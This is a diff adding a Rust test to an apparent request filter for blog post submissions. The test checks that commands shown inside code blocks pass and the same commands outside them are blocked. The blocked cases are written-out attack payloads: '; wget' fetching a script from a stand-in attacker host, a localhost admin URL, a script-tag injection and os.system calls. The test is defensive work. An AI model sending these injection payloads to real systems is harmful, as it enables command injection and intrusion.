@@ -384,3 +384,32 @@ fn a_search_post_or_error_report_that_opens_as_text_passes_but_telling_sql_is_ca
         assert!(query_blocked(attack), "passed: {attack}");
     }
 }
+
+#[test]
+fn code_shown_in_a_code_block_passes_but_the_same_outside_it_is_caught() {
+    let post = |content: &str| {
+        let body = format!("content={}&action=editpost", enc(content));
+        run(
+            "POST",
+            "/wp-admin/post.php",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            body.as_bytes(),
+        )
+    };
+    for shown in [
+        "<p>Try it:</p><pre><code>curl -X GET \"http://127.0.0.1:3000/admin/users/list\"</code></pre>",
+        "<p>Then</p><pre><code>cat /etc/hosts; wget http://mirror.example/x.tar.gz</code></pre>",
+        "Python:\n```python\nimport os\nos.system('ls -la')\n```\nDone.",
+    ] {
+        assert_passes(shown, &post(shown));
+    }
+    for attack in [
+        "<p>Try it:</p><pre><code>x</code></pre>http://127.0.0.1:3000/admin/users/list",
+        "<pre><code>x</code></pre>; wget http://evil.example/x.sh",
+        "<pre><code>x</code></pre><script>alert(1)</script>",
+        "```\nx\n```\nos.system('id')",
+        "<pre><code>unclosed; wget http://evil.example/x.sh",
+    ] {
+        assert_blocked(attack, &post(attack));
+    }
+}
